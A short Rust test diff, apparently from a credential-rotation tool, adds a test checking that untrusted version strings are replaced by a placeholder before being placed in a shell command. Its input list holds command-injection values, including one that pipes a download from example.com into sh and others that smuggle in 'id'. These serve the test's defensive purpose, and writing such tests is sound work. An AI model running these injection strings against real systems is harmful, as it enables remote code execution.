@@ -155,3 +155,12 @@ async fn a_rollback_waits_for_a_run_that_gives_way_to_it() {
     assert_eq!(roll_back(&world, false).await.outcome, Outcome::RolledBack);
     assert_eq!(world.state().in_braintrust(), ["AKIAOLD"]);
 }
+
+#[test]
+fn a_version_that_somebody_else_named_is_harmless_in_a_command() {
+    let usual = "8f0e4a53-9d3b-4f6f-8a7c-4e105f1c9a52";
+    assert_eq!(in_a_command(usual), usual);
+    for named in ["$(curl example.com | sh) xxxxxxxxxxx", "`id`", "a;id", "a'b", "a b"] {
+        assert_eq!(in_a_command(named), "<version>");
+    }
+}
